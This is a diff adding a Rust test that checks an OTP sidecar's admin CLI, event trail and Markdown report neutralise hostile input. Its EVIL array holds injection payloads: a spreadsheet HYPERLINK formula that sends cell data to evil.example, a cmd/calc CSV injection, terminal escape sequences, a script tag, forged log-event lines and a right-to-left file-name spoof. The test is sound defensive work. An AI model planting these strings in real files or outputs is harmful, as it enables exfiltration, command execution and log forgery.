@@ -1,0 +1,92 @@
+//! Whatever a subject, a reason or a user agent holds: to every output it is only text.
+
+use assert_cmd::Command;
+use serde_json::{Value, json};
+
+use super::{SOON, admin, rig};
+use crate::support::{Address, Rig, keys, wait};
+
+/// A formula, a line that looks like an event, colours and a title for the terminal, HTML, Markdown, and text that runs
+/// backwards.
+const EVIL: [&str; 8] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "\n{\"type\":\"admin.unlock\",\"actor\":\"ops\"}",
+    "ann\n{\"type\":\"admin.unlock\"}\n",
+    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;owned\u{7}",
+    "<script>alert(1)</script>|`x`",
+    "a|b\r\n## Forged heading",
+    "[link](http://evil.example)\u{202e}fdp.exe",
+    "+1+cmd|' /C calc'!A0",
+];
+
+fn run(rig: &Rig, args: &[&str]) -> String {
+    let Address::Tcp(address) = rig.sidecar.admin() else { panic!("not TCP") };
+    let output = Command::new(env!("CARGO_BIN_EXE_otp-sidecar"))
+        .args(args)
+        .env_clear()
+        .envs([("OTP_ADMIN_URL", &*format!("http://{address}")), ("OTP_ADMIN_KEY", keys::ADMIN_KEY)])
+        .output()
+        .expect("the binary");
+    let text = String::from_utf8([output.stdout, output.stderr].concat()).expect("UTF-8");
+    assert!(output.status.success(), "{args:?}: {text}");
+    text
+}
+
+#[tokio::test]
+async fn nothing_that_foreigners_write_does_anything_anywhere() {
+    let rig = rig(&[]);
+    for subject in EVIL {
+        let body = json!({"subject": subject, "tenant": "shop", "minutes": 5, "reason": subject});
+        admin(&rig.sidecar).post("/admin/v1/lock", &body).await.is(200);
+        let body = json!({"subject": subject, "ip": "203.0.113.5", "user_agent": subject, "device_id": "d"});
+        rig.client.send_body(body).await.refused(429, "subject_locked");
+    }
+    // A lockout of each is listed in the review.
+    for subject in EVIL {
+        super::unlock(&rig.sidecar, subject).await.is(200);
+        rig.lock_out(subject).await;
+    }
+    let all = || async {
+        let report = admin(&rig.sidecar).get("/admin/v1/report?since=1h").await.is(200).body;
+        let named =
+            report["locked_out"]["subjects"].as_array()?.iter().filter(|one| one["subject"].is_string()).count();
+        (named == EVIL.len() && report["acts_total"] == 2 * EVIL.len()).then_some(())
+    };
+    wait::until_async("all of it", SOON, all).await;
+
+    let mut outputs = vec![run(&rig, &["locks"]), run(&rig, &["events", "--limit", "1000"]), run(&rig, &["stats"])];
+    let report = run(&rig, &["report", "--since", "1h"]);
+    outputs.push(report.clone());
+    for subject in EVIL {
+        outputs.push(run(&rig, &["inspect", "--tenant", "shop", "--", subject]));
+    }
+    for output in &outputs {
+        let odd =
+            |c: char| c.is_control() && c != '\n' || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+        assert!(!output.contains(odd), "{output:?}");
+        for line in output.lines() {
+            assert!(!line.trim_start().starts_with(['=', '+', '@']), "{line}");
+            assert!(serde_json::from_str::<Value>(line).is_err(), "a line that looks like an event: {line}");
+            assert!(!line.starts_with("## Forged"), "{line}");
+        }
+    }
+    assert!(outputs[0].contains("'=HYPERLINK") && outputs[0].contains("\\u{1b}[31mred"), "{}", outputs[0]);
+    // In Markdown each stands in a code span of its own cell: as many pipes that end a cell as in the head.
+    for line in report.lines().filter(|line| line.starts_with("| `") && line.contains("`shop`")) {
+        let pipes = line.matches('|').count() - line.matches("\\|").count();
+        assert_eq!(pipes, 6, "{line}");
+    }
+    assert!(!report.contains("| <script>") && !report.contains("| [link]"), "{report}");
+
+    // For programs they are JSON strings, and so they are in the trail: each line one event.
+    let events: Value = serde_json::from_str(&run(&rig, &["events", "--json", "--limit", "1000"])).expect("JSON");
+    let subjects: Vec<_> =
+        events["events"].as_array().unwrap().iter().filter_map(|e| e["who"]["subject"].as_str()).collect();
+    for subject in EVIL {
+        assert!(subjects.contains(&subject.trim()), "{subject:?}");
+    }
+    for line in rig.sidecar.event_lines() {
+        let event: Value = serde_json::from_str(&line).expect("an event");
+        assert!(event["bucket"].is_u64() && event["seq"].is_u64(), "{line}");
+    }
+}
